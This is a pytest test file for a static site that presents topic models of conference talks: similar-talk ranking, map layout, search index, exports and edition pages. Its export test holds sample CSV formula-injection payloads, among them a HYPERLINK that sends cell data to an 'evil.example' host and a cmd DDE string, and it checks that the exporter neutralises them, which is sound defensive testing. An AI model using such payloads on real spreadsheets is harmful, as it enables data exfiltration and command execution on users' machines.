"""What the site computes at build time: similar talks, the map, the search index, the
export, shares per edition, the corpus summary; on hand-written inputs."""

from __future__ import annotations

import csv
import io
import json
import sys
import time
import unicodedata
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import scipy.sparse as sp
from bs4 import BeautifulSoup

from tests.helpers.tiny_site import EVENTS, N_TOPICS, fitted, fitted_two_events
from tests.reliability_table import reliability
from topics.model.selection import Candidate
from topics.model.similarity import related_topics, similar_talks
from topics.site import build_site
from topics.site.editions import event_shares, natural_key
from topics.site.export import TOP_WORDS, ExportedTopic, write_exports
from topics.site.layout import pack, talk_positions
from topics.site.search_index import (
    SEPARATOR_CODES,
    STOP_WORDS,
    SearchDocument,
    minisearch_index,
    process_term,
    tokenize,
    write_search_index,
)
from topics.site.site_view import site_view
from topics.site.views import DOWNLOADS


def soup(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


@pytest.fixture(scope="module")
def two_event_site(tmp_path_factory) -> Path:
    corpus, _model, summary = fitted_two_events()
    return build_site(corpus, summary, tmp_path_factory.mktemp("two") / "site")


# Similar talks ---------------------------------------------------------------------------


def _dense_similarity(W, X):
    def unit(M):
        norms = np.linalg.norm(M, axis=1, keepdims=True)
        return np.divide(M, norms, out=np.zeros_like(M), where=norms > 0)

    topic = unit(W) @ unit(W).T
    sim = topic if X is None else (unit(X) @ unit(X).T) * (1 + topic) / 2 + 1e-3 * topic
    np.fill_diagonal(sim, -np.inf)
    return sim


@pytest.mark.parametrize("with_words", [False, True])
@pytest.mark.parametrize("n", [57, 4200])  # 4200: wide rows take the threshold path
def test_similar_talks_in_chunks_equal_the_dense_answer(with_words, n):
    rng = np.random.default_rng(1)
    W = rng.random((n, 6)) * (rng.random((n, 6)) < 0.5)
    X = rng.random((n, 40)) * (rng.random((n, 40)) < 0.2) if with_words else None
    budget = 4 * n * 5  # five rows at a time
    neighbours, scores = similar_talks(W, None if X is None else sp.csr_matrix(X), 5, budget)
    assert neighbours.shape == scores.shape == (n, 5)
    sim = _dense_similarity(W, X)
    for i in range(0, n, max(1, n // 60)):
        kept = [j for j in neighbours[i] if j >= 0]
        assert i not in kept and len(set(kept)) == len(kept)
        best = np.sort(sim[i])[::-1][:5]
        best = best[best > 0]
        assert len(kept) == len(best)
        assert scores[i][: len(kept)] == pytest.approx(best, abs=1e-5)  # the best ones
        assert sim[i, kept] == pytest.approx(scores[i][: len(kept)], abs=1e-5)  # as scored
        assert list(scores[i]) == sorted(scores[i], reverse=True)


def test_similar_talks_of_a_talk_with_nothing_in_common_are_empty():
    W = np.array([[1.0, 0], [0.9, 0.1], [0, 0], [0, 1.0]])
    neighbours, scores = similar_talks(W, k=5)
    assert neighbours.shape == (4, 3)  # at most n - 1 neighbours
    assert list(neighbours[2]) == [-1, -1, -1] and scores[2].max() == 0
    assert neighbours[0][0] == 1  # the closest mix first
    assert -1 in neighbours[0]  # the zero row is never a neighbour


def test_similar_talks_scale_without_an_n_by_n_matrix():
    rng = np.random.default_rng(0)
    W = rng.random((12_000, 10), dtype=np.float32)
    start = time.perf_counter()
    neighbours, _ = similar_talks(W, k=5, budget=4 * 2**20)  # 87 rows at a time
    assert neighbours.shape == (12_000, 5)
    assert time.perf_counter() - start < 60


def test_related_topics_prefer_shared_words_and_talks():
    H = np.array([[1.0, 1, 0, 0], [1.0, 0.8, 0.1, 0], [0, 0, 1.0, 1]])
    W = np.array([[1.0, 0.5, 0], [0.6, 1, 0], [0, 0, 1.0]])
    related = related_topics(H, W, k=2)
    assert [u for u, *_ in related[0]] == [1, 2] or [u for u, *_ in related[0]] == [1]
    assert related[0][0][2] == 2  # both talks 0 and 1 give topics 0 and 1 10% or more
    assert all(u != t for t, rel in enumerate(related) for u, *_ in rel)


# Map layout --------------------------------------------------------------------------------


def test_map_places_every_talk_with_a_topic_inside_its_disc():
    rng = np.random.default_rng(2)
    W = rng.dirichlet(np.full(5, 0.3), size=400)
    W[7] = 0
    positions, centres, radii = talk_positions(W)
    assert positions.shape == (400, 2) and centres.shape == (5, 2)
    assert np.isnan(positions[7]).all()
    placed = np.delete(positions, 7, axis=0)
    assert np.all((placed >= 0) & (placed <= 1))
    dominant = np.delete(W.argmax(axis=1), 7)
    inside = np.linalg.norm(placed - centres[dominant], axis=1) <= radii[dominant] + 1e-9
    assert inside.all()
    for a in range(5):  # discs do not overlap
        for b in range(a + 1, 5):
            assert np.linalg.norm(centres[a] - centres[b]) >= radii[a] + radii[b]
    again, _, _ = talk_positions(W)
    assert np.array_equal(again, positions, equal_nan=True)  # deterministic


def test_map_leans_mixed_talks_towards_their_other_topic():
    W = np.vstack([np.tile([1.0, 0, 0], (30, 1)), [[0.55, 0.45, 0]], np.tile([0, 1.0, 0], (30, 1))])
    W = np.vstack([W, np.tile([0, 0, 1.0], (30, 1))])
    positions, centres, _ = talk_positions(W)
    mixed = positions[30]
    towards = centres[1] - centres[0]
    assert np.dot(mixed - centres[0], towards) > 0


def _dense_pack(centres, radii, gap, rounds=400):
    """The packing rounds of :func:`topics.site.layout.pack` over all K x K pairs."""
    centres = centres.copy()
    K = len(radii)
    need = radii[:, None] + radii[None, :] + gap
    upper = np.triu(np.ones((K, K), dtype=bool), 1)
    for round_ in range(rounds):
        if round_ < rounds - 100:
            centres *= 0.97
        for _ in range(4):
            delta = centres[:, None, :] - centres[None, :, :]
            distance = np.linalg.norm(delta, axis=2)
            overlap = np.where(upper & (distance < need), need - distance, 0.0)
            if not overlap.any():
                break
            direction = np.divide(
                delta, distance[..., None], out=np.zeros_like(delta), where=distance[..., None] > 0
            )
            share = radii[None, :] / (radii[:, None] + radii[None, :])
            centres += ((overlap * share)[..., None] * direction).sum(axis=1)
            centres -= ((overlap * (1 - share))[..., None] * direction).sum(axis=0)
    return centres - centres.mean(axis=0)


@pytest.mark.parametrize("K", [2, 3, 19, 100])
def test_map_packing_moves_overlapping_pairs_as_all_pairs_would(K):
    # Only overlapping pairs are computed: the centres must be those of the rounds over
    # all K x K pairs, to the last bit (the map's positions do not change).
    rng = np.random.default_rng(K)
    radii = np.sqrt(rng.integers(1, 40, K)).astype(float)
    angles = np.linspace(0, 2 * np.pi, K, endpoint=False)
    centres = radii.sum() / 2 * np.column_stack([np.cos(angles), np.sin(angles)])
    centres[-1] = centres[0]  # two discs on one spot: no direction between them
    gap = 1 + 0.25 * radii.mean()
    assert np.array_equal(pack(centres, radii, gap), _dense_pack(centres, radii, gap))


def test_map_layout_is_fast_for_100k_talks():
    rng = np.random.default_rng(3)
    W = rng.dirichlet(np.full(20, 0.2), size=100_000)
    start = time.perf_counter()
    positions, _, _ = talk_positions(W)
    assert time.perf_counter() - start < 10
    assert np.isfinite(positions).all()


# Search index ------------------------------------------------------------------------------


def test_tokenizer_cuts_like_minisearch():
    assert tokenize("Hello, world! It's C++ — and\u00a0Python's 3.12") == [
        "Hello", "world", "It", "s", "C++", "and", "Python", "s", "3", "12"
    ]  # fmt: skip
    assert tokenize(", a") == ["", "a"]
    assert process_term("The") is None and process_term("") is None
    assert process_term("NumPy") == "numpy"
    assert "the" in STOP_WORDS


def test_separators_are_all_in_the_planes_searched():
    # The tokenizer's class of separators is built from SEPARATOR_CODES only (planes 0
    # and 1, for speed): no separator or punctuation may lie outside them.
    outside = [
        code
        for code in range(sys.maxunicode + 1)
        if code not in SEPARATOR_CODES and unicodedata.category(chr(code))[0] in "ZP"
    ]
    assert outside == []


def test_minisearch_index_layout():
    docs = [
        SearchDocument("a", "NumPy arrays", "Ada", "Arrays and arrays.", "ev", 1),
        SearchDocument("b", "Web", "", "", "ev", 0),
    ]
    index = minisearch_index(docs)
    assert index["serializationVersion"] == 2
    assert index["documentCount"] == 2 and index["nextId"] == 2
    assert index["documentIds"] == {"0": "a", "1": "b"}
    assert index["fieldIds"] == {"title": 0, "speakers": 1, "abstract": 2}
    terms = dict(index["index"])
    assert terms["arrays"] == {"0": {"0": 1}, "2": {"0": 2}}  # title once, abstract twice
    assert "and" not in terms
    # unique tokens, as MiniSearch counts them: "Arrays", "and", "arrays" and the "" after "."
    assert index["fieldLength"]["0"] == [2, 1, 4]
    assert index["storedFields"]["1"] == {"t": "Web", "s": "", "e": "ev", "k": 0}
    assert [t for t, _ in index["index"]] == sorted(terms)


def test_search_files_are_scripts_that_set_globals(tmp_path):
    manifest, shard = write_search_index([SearchDocument("a", "T", "", "")], tmp_path / "search")
    text = manifest.read_text(encoding="utf-8")
    prefix = "window.topicsSearchManifest = "
    assert text.startswith(prefix)
    data = json.loads(text.removeprefix(prefix).rstrip().rstrip(";"))
    assert data["shards"] == [{"id": 0, "file": "search/shard-0.js", "terms": ["*"]}]
    assert "window.topicsSearchShards[0] = {" in shard.read_text(encoding="utf-8")


# Export ------------------------------------------------------------------------------------


def test_export_files_hold_topics_words_and_weights(two_event_site):
    corpus, model, summary = fitted_two_events()
    data = two_event_site / "data"
    topics = json.loads((data / "topics.json").read_text(encoding="utf-8"))
    assert [t["number"] for t in topics] == list(range(1, N_TOPICS + 1))
    assert [t["label"] for t in topics] == list(model.topic_labels_)
    assert sum(t["size"] for t in topics) == len(corpus) - 1  # one talk without a topic
    rows = list(csv.DictReader(io.StringIO((data / "topics.csv").read_text(encoding="utf-8"))))
    assert [r["label"] for r in rows] == list(model.topic_labels_)
    words = list(csv.DictReader(io.StringIO((data / "topic-words.csv").read_text("utf-8"))))
    first = [(r["term"], float(r["weight"])) for r in words if r["topic"] == "1"]
    assert len(first) <= TOP_WORDS
    assert first[0][0] == model.top_words(0, 1)[0][0]
    assert first[0][1] == pytest.approx(model.top_words(0, 1)[0][1], abs=1e-6)
    weights = json.loads((data / "talk-topics.json").read_text(encoding="utf-8"))
    assert [t["id"] for t in weights["talks"]] == [t.id for t in corpus]
    assert np.allclose([t["weights"] for t in weights["talks"]], summary.document_topic, atol=1e-6)
    table = list(csv.reader(io.StringIO((data / "talk-topics.csv").read_text("utf-8"))))
    assert table[0] == ["id", "title", "event", "topic_1", "topic_2", "topic_3"]
    assert len(table) == 1 + len(corpus)
    index = soup(two_event_site / "index.html")
    links = {a["href"] for a in index.select("#data a")}
    assert links == {f"data/{name}" for name, _ in DOWNLOADS}


#: Texts a spreadsheet would run as formulas, and texts that only look alike.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1,2;3"]  # fmt: skip
HARMLESS = ["Tables with = signs", " =1+1", "'quoted", "1-2", "a@b.example"]


@reliability(
    "Talks titled =HYPERLINK(...), +cmd|..., -2+3, @SUM(...), or starting with a tab or a"
    " carriage return, from an event and with topic labels and terms of the same kind,"
    " exported as the site's data/*.csv and data/*.json",
    "Every such CSV cell starts with a ' (OWASP's advice), so a spreadsheet shows it as text;"
    " other cells and the JSON files hold the exact text",
)
def test_export_neutralises_formulas_in_csv_and_keeps_json_exact(tmp_path):
    texts = FORMULAS + HARMLESS
    topics = [
        ExportedTopic(1, FORMULAS[0], 3, None, [(FORMULAS[3], 0.5), ("-", 0.25), ("x", 0.125)]),
        ExportedTopic(2, "-negative", 2, -0.5, [(t, 0.1) for t in texts]),
    ]
    talks = [(f"t{i}", text, FORMULAS[i % len(FORMULAS)]) for i, text in enumerate(texts)]
    W = np.full((len(talks), 2), -0.0)  # no formula, though a number with a minus sign
    paths = write_exports(topics, talks, W, tmp_path)

    def table(name: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(paths[name].read_bytes().decode(), newline="")))

    def safe(text: str) -> str:
        return f"'{text}" if text in FORMULAS or text.startswith("-") else text

    rows = table("talk-topics.csv")[1:]
    assert [r[1] for r in rows] == [safe(text) for text in texts]
    assert [r[2] for r in rows] == [safe(event) for _, _, event in talks]
    assert {r[3] for r in rows} == {"-0.0"}
    assert [r[1] for r in table("topics.csv")[1:]] == [safe(FORMULAS[0]), "'-negative"]
    assert table("topics.csv")[1][4] == f"'{FORMULAS[3]}; -; x"
    assert table("topics.csv")[2][3] == "-0.5"
    assert [r[2] for r in table("topic-words.csv")[1:]] == [
        safe(FORMULAS[3]), "'-", "x", *map(safe, texts)
    ]  # fmt: skip
    every_cell = [c for name in paths if name.endswith(".csv") for r in table(name) for c in r]
    text_cells = [c for c in every_cell if not c.lstrip("-").replace(".", "").isdigit()]
    assert not [c for c in text_cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The JSON files hold the exact text.
    listing = json.loads(paths["talk-topics.json"].read_text("utf-8"))
    assert [(t["title"], t["event"]) for t in listing["talks"]] == [t[1:] for t in talks]
    exported = json.loads(paths["topics.json"].read_text("utf-8"))
    assert [t["label"] for t in exported] == [FORMULAS[0], "-negative"]
    assert exported[1]["top_words"] == texts[:10]
    words = json.loads(paths["topic-words.json"].read_text("utf-8"))
    assert [w for w, _ in words[1]["terms"]] == texts


# Editions ----------------------------------------------------------------------------------


def test_event_shares_add_up_per_event():
    W = np.array([[1.0, 0], [0, 2.0], [1.0, 1.0], [0, 0]])
    shares = event_shares(["b-2019", "a-2016", "b-2019", "a-2016"], W)
    assert shares.events == ["a-2016", "b-2019"]
    assert shares.shares.tolist() == [[0.0, 1.0], [0.75, 0.25]]
    assert shares.talks.tolist() == [2, 2] and shares.with_topic.tolist() == [1, 2]
    assert shares.strongest.tolist() == [[0, 1], [2, 0]]  # a tie goes to the first topic
    assert sorted(["x-10", "x-9"], key=natural_key) == ["x-9", "x-10"]


def test_editions_page_for_a_two_event_corpus(two_event_site):
    page = soup(two_event_site / "editions.html")
    assert [th.get_text() for th in page.select("thead th")][1:] == list(EVENTS)
    assert len(page.select("tbody tr")) == N_TOPICS
    assert [td.get_text() for td in page.select("tfoot td")] == ["6", "7"]
    for column in range(len(EVENTS)):
        cells = [tr.select("td")[column].get_text() for tr in page.select("tbody tr")]
        total = sum(float(c.split("%")[0]) for c in cells)
        assert total == pytest.approx(100, abs=0.2)
    nav = [a["href"] for a in soup(two_event_site / "index.html").select(".site-nav a")]
    assert "editions.html" in nav
    topic = soup(two_event_site / "topics" / "1.html")
    assert [li.select_one(".event-name").get_text() for li in topic.select(".event-bars li")] == [
        *EVENTS
    ]


def test_one_event_has_no_editions_page(tmp_path):
    corpus, _model, summary = fitted()
    out = build_site(corpus, summary, tmp_path / "site")
    assert not (out / "editions.html").exists()
    assert "editions.html" not in (out / "index.html").read_text(encoding="utf-8")


# Pages -------------------------------------------------------------------------------------


def test_talk_pages_list_five_similar_talks(two_event_site):
    corpus, _, summary = fitted_two_events()
    for talk, row in zip(corpus, summary.document_topic, strict=True):
        page = soup(two_event_site / "talks" / f"{talk.id}.html")
        similar = [a["href"] for a in page.select(".similar a.talk-link")]
        if row.sum() > 0:
            assert len(similar) == 5, talk.id
        else:  # no topic: only the talks it shares words with
            assert 1 <= len(similar) <= 5, talk.id
        assert f"../talks/{talk.id}.html" not in similar
        assert all((two_event_site / "talks" / Path(h).name).is_file() for h in similar)


def test_similar_talks_share_the_subject():
    corpus, _model, summary = fitted()
    view = site_view(corpus, summary)
    talk = next(t for t in view.talks if t.id == "pytest-fixtures-in-depth")
    testing = {"mocking-without-tears", "property-based-testing", "testing-web-apps"}
    assert {t.id for t in talk.similar[:3]} <= testing | {"coverage-and-ci"}


def test_topic_pages_show_related_topics_other_topics_and_phrases(two_event_site):
    page = soup(two_event_site / "topics" / "1.html")
    related = page.select(".related a")
    assert 1 <= len(related) <= 3
    assert all(a["href"] in {"../topics/2.html", "../topics/3.html"} for a in related)
    for li in page.select("ol.talk-list.ranked > li"):
        others = [a["href"] for a in li.select(".also-in a")]
        assert "../topics/1.html" not in others


def test_speakers_page_lists_every_speaker_with_their_talks(two_event_site):
    corpus, _, _ = fitted_two_events()
    page = soup(two_event_site / "speakers.html")
    names = [s.get_text() for s in page.select(".speaker-name")]
    expected = {name for talk in corpus for name in talk.speakers}
    assert sorted(names) == sorted(expected)
    assert names.index("Ada Lovelace") < names.index("Alan Turing") < names.index("Barbara Liskov")
    entry = page.select_one(".speaker-list > li:has(.speaker-name:-soup-contains('Grace Hopper'))")
    assert [a["href"] for a in entry.select("a")] == ["talks/dataframes-for-analysts.html"]
    talk = soup(two_event_site / "talks" / "dataframes-for-analysts.html")
    links = [a["href"] for a in talk.select(".talk > .speakers a")]
    assert links == [f"../speakers.html#{entry['id']}", links[1]] and len(links) == 2
    assert "&lt;img src=x" in (two_event_site / "speakers.html").read_text(encoding="utf-8")


def test_summary_and_topics_show_what_the_model_exposes(tmp_path):
    corpus, _model, summary = fitted()
    H = summary.topic_word.copy()
    terms = np.append(summary.terms, "numerical data")
    H = np.hstack([H, np.zeros((len(H), 1), dtype=H.dtype)])
    H[1, -1] = 9.0  # the heaviest term of topic 2
    summary = replace(
        summary,
        terms=terms,
        topic_word=H,
        document_term=None,
        topic_stability=np.array([0.91, 0.5, 0.77]),
        languages=["en"] * (len(corpus) - 2) + ["de", "ja"],
    )
    out = build_site(corpus, summary, tmp_path / "site")
    index = soup(out / "index.html")
    facts = {d.dt.get_text(): d.dd.get_text() for d in index.select(".facts > div")}
    assert facts["Talks"] == str(len(corpus))
    assert facts["Speakers"] == "14"
    assert facts["Tracks"] == "1"
    assert facts["Topics"] == "3"
    assert facts["Languages"] == "English (11), German (1), Japanese (1)"
    assert "3 topics, as asked" in index.select_one(".method").get_text()
    assert "stability 0.91" in index.select(".card .eyebrow")[0].get_text()
    topic = soup(out / "topics" / "2.html")
    assert topic.select("ol.words li")[0].get_text() == "numerical data"
    talk = soup(out / "talks" / f"{corpus.talks[-1].id}.html")
    details = {d.dt.get_text(): d.dd.get_text() for d in talk.select("dl.details > div")}
    assert details["Language"] == "Japanese"


def test_candidates_of_the_topic_count_are_tabled(tmp_path):
    corpus, _model, summary = fitted()
    summary = replace(
        summary,
        selection=[Candidate(5, 0.4, 0.1), Candidate(2, 0.9, 0.2), Candidate(8, 0.3, 0.3)],
        topic_languages=["en", "en", "es"],  # two English topics: the candidate 2 was kept
        main_language="en",
        excluded_languages={"eu": 4},
    )
    out = build_site(corpus, summary, tmp_path / "site")
    index = soup(out / "index.html")
    table = index.select(".candidates tbody tr")
    rows = [[cell.get_text() for cell in tr.select("th, td")] for tr in table]
    assert rows == [
        ["2 (chosen)", "0.900", "0.200", "0.540"],
        ["5", "0.400", "0.100", "0.220"],
        ["8", "0.300", "0.300", "0.195"],
    ]
    assert [tr.get("class") for tr in table] == [["chosen"], None, None]
    assert "Basque (4)" in index.select_one(".method").get_text()
    eyebrows = [p.get_text() for p in index.select(".card .eyebrow")]
    assert "Spanish" in eyebrows[2] and "English" in eyebrows[0]


def test_rebuild_after_a_template_change_does_not_refit(tmp_path, monkeypatch):
    corpus, model, summary = fitted()

    def refit(*args, **kwargs):
        raise AssertionError("render refitted the model")

    monkeypatch.setattr(type(model), "fit", refit)
    monkeypatch.setattr(type(model), "fit_transform", refit)
    out = build_site(corpus, summary, tmp_path / "site")
    assert (out / "map.html").is_file()
